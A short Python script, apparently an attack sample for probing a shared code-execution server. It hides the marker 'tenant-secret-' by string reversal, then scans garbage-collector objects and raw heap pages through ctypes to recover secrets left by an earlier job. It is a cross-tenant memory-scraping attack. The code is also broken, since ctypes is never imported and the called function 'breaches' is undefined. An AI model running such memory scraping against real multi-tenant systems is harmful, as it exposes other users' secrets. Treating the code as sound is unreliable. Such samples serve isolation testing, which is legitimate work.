# Searches its own memory, a copy of the server's, for what an earlier job was given.
# job: function | ends: completed | reaches: out
import gc

WORDS = "".join(reversed("-terces-tnanet"))


def attack():
    return breaches(objects=lambda: in_objects() or False, heap=lambda: in_heap() or False)


def in_objects():
    seen, found, ahead = set(), [], gc.get_objects()
    while ahead:
        thing = ahead.pop()
        if id(thing) in seen or len(seen) > 300_000:
            continue
        seen.add(id(thing))
        if isinstance(thing, (str, bytes, bytearray)):
            text = thing if isinstance(thing, str) else bytes(thing).decode("latin-1")
            if WORDS in text and text != WORDS:
                found.append(text[:100])
        elif isinstance(thing, (list, tuple, dict)):
            ahead.extend(gc.get_referents(thing))
    return found


def in_heap():
    libc = ctypes.CDLL(None)
    libc.sbrk.restype = ctypes.c_void_p
    end = libc.sbrk(0)
    start = end - (4 << 20)
    libc.mincore.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_char_p]
    resident = ctypes.create_string_buffer(1)
    found = []
    for page in range(start & ~4095, end & ~4095, 4096):
        if libc.mincore(page, 4096, resident) == 0:
            found += [WORDS] if (WORDS + "9").encode() in ctypes.string_at(page, 4096) else []
    return found
